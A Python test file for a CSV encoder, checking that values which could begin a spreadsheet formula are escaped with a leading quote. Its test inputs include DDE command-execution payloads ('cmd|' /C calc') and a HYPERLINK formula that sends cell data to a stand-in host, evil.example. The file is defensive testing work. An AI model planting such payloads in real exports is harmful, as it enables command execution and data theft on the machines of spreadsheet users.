"""Names of items and channels come from whoever sends events, and end in somebody's spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.common.columns import Column, Type
from services.common.encoding import csv_portions

COLUMNS = [Column("item_id", Type.TEXT), Column("gmv", Type.MONEY)]


def cell(value: str | None) -> str:
    text = b"".join(csv_portions(COLUMNS, [{"item_id": value, "gmv": "-1.00"}])).decode()
    _, (found, money) = csv.reader(io.StringIO(text, newline=""))
    assert money == "-1.00"
    return found


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "-1\n=2",
    ],
)
def test_no_cell_begins_a_formula(formula: str) -> None:
    assert cell(formula) == f"'{formula}"


@pytest.mark.parametrize("harmless", ["sku-1", "a=b", "-5", "+8.50", "", "'quoted", "中文", "1=1"])
def test_what_is_no_formula_stays(harmless: str) -> None:
    assert cell(harmless) == harmless


@given(st.text(max_size=12))
def test_every_text_can_be_had_back(text: str) -> None:
    found = cell(text)
    assert found in (text, f"'{text}")
    assert not found.startswith(("=", "@"))


def test_nothing_is_still_nothing() -> None:
    assert cell(None) == ""
